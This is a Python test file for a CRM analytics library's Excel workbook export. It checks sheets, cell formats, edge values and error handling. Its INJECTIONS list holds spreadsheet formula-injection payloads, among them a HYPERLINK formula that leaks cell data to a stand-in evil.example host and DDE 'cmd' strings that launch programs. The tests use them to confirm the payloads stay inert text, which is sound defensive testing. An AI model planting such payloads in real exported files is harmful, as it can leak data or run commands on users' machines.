"""The account managers' workbook: sheets, types, formats, and no formula from the data."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from crm_analytics.exceptions import DataValidationError
from crm_analytics.runs.views import at_risk_customers, top_customers
from crm_analytics.scoring import segment_summary

openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed (the excel extra)")
pytest.importorskip("xlsxwriter", reason="xlsxwriter is not installed (the excel extra)")
workbook = pytest.importorskip("crm_analytics.runs.workbook")

INJECTIONS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.fixture(scope="module")
def written(scored, tmp_path_factory):
    path = workbook.write_workbook(scored, tmp_path_factory.mktemp("book") / "scores.xlsx")
    return openpyxl.load_workbook(path), path


def sheet_frame(sheet) -> pd.DataFrame:
    rows = list(sheet.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def test_four_sheets_with_frozen_filtered_headers(written, scored):
    book, path = written
    assert book.sheetnames == ["Scores", "Segment summary", "Top customers", "At-risk valuable"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "B2"
        assert sheet["A1"].font.b
        last = sheet.cell(row=1, column=sheet.max_column).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    assert not [name for name in path.parent.iterdir() if name != path]


def test_scores_sheet_holds_every_customer_with_typed_cells(written, scored):
    book, _ = written
    sheet = book["Scores"]
    frame = sheet_frame(sheet)
    assert frame.columns.tolist() == ["customer_id", *scored.columns]
    assert frame["customer_id"].tolist() == scored.index.tolist()
    np.testing.assert_allclose(frame["predicted_clv"].astype(float), scored["predicted_clv"])
    assert frame["n_orders"].tolist() == scored["n_orders"].tolist()
    assert frame["rfm_segment"].tolist() == scored["rfm_segment"].astype(str).tolist()
    assert frame["first_purchase"].tolist() == scored["first_purchase"].dt.to_pydatetime().tolist()
    header = {cell.value: cell.column_letter for cell in sheet[1]}
    formats = {name: sheet[f"{header[name]}2"].number_format for name in header}
    assert formats["predicted_clv"] == formats["total_amount"] == "#,##0.00"
    assert formats["p_alive"] == formats["churn_probability"] == "0.0%"
    assert formats["n_orders"] == "#,##0" and formats["r_score"] == "0"
    assert formats["first_purchase"] == "yyyy-mm-dd hh:mm"
    assert formats["rfm_segment"] == "@"
    assert sheet[f"{header['n_orders']}2"].data_type == "n"
    assert sheet[f"{header['first_purchase']}2"].is_date


def test_view_sheets_match_the_views(written, scored):
    book, _ = written
    summary = sheet_frame(book["Segment summary"])
    expected = segment_summary(scored, by="rfm_segment")
    assert summary["rfm_segment"].tolist() == expected.index.astype(str).tolist()
    assert summary["customers"].tolist() == expected["customers"].tolist()
    np.testing.assert_allclose(summary["revenue_share"].astype(float), expected["revenue_share"])
    top = sheet_frame(book["Top customers"])
    assert top["customer_id"].tolist() == top_customers(scored, n=100).index.tolist()
    assert top["rank"].tolist() == list(range(1, 101))
    at_risk = sheet_frame(book["At-risk valuable"])
    expected_at_risk = at_risk_customers(scored, risk_tiers=("high", "medium"))
    assert len(expected_at_risk) > 0
    assert at_risk["customer_id"].tolist() == expected_at_risk.index.tolist()


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    n = len(INJECTIONS)
    scored = pd.DataFrame(
        {
            "company": INJECTIONS,
            "region": pd.Categorical(["=2*3"] * n),
            "predicted_clv": -np.arange(n, dtype=float) - 1.5,
            "total_amount": np.arange(n, dtype=float),
        },
        index=pd.Index([f"=ID{number}" for number in range(n)], name="customer_id"),
    )
    path = workbook.write_workbook(scored, tmp_path / "scores.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    frame = sheet_frame(book["Scores"])
    # OOXML writes a carriage return as _x000D_, which Excel decodes and openpyxl does not.
    assert frame["company"].str.replace("_x000D_", "\r").tolist() == INJECTIONS
    assert frame["customer_id"].tolist() == scored.index.tolist()
    assert frame["predicted_clv"].tolist() == scored["predicted_clv"].tolist()
    guarded = [cell for cell in book["Scores"]["B"][1:]]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in guarded)
    # Numbers stay numbers, negative ones included.
    assert book["Scores"]["D2"].data_type == "n" and book["Scores"]["D2"].value == -1.5


def test_missing_infinite_and_unprintable_values(tmp_path):
    scored = pd.DataFrame(
        {
            "note": ["bell\x07 ok", None, "x" * 40_000],
            "total_amount": [1.0, np.inf, np.nan],
            "first_purchase": pd.to_datetime(["2025-01-02", None, "2025-03-04"]).tz_localize(
                "Europe/Paris"
            ),
        },
        index=pd.Index(["a", "b", "c"], name="customer_id"),
    )
    path = workbook.write_workbook(scored, tmp_path / "scores.xlsx")
    frame = sheet_frame(openpyxl.load_workbook(path)["Scores"])
    assert frame["note"][0] == "bell\ufffd ok" and pd.isna(frame["note"][1])
    assert len(frame["note"][2]) == 32_767
    assert frame["total_amount"][0] == 1.0 and pd.isna(frame["total_amount"][1])
    assert frame["first_purchase"][0] == pd.Timestamp("2025-01-01 23:00")


def test_rewriting_replaces_the_file(scored, tmp_path):
    path = tmp_path / "scores.xlsx"
    workbook.write_workbook(scored.iloc[:10], path)
    workbook.write_workbook(scored.iloc[:5], path)
    assert openpyxl.load_workbook(path)["Scores"].max_row == 6
    assert [item.name for item in tmp_path.iterdir()] == ["scores.xlsx"]


def test_bad_arguments(scored, tmp_path):
    with pytest.raises(DataValidationError, match="must end in .xlsx"):
        workbook.write_workbook(scored, tmp_path / "scores.csv")
    with pytest.raises(DataValidationError, match="does not exist"):
        workbook.write_workbook(scored, tmp_path / "absent" / "scores.xlsx")
    too_many = pd.DataFrame({"total_amount": np.zeros(1_048_576)})
    with pytest.raises(DataValidationError, match="more than an Excel sheet holds"):
        workbook.write_workbook(too_many, tmp_path / "scores.xlsx")
    assert not list(tmp_path.iterdir())
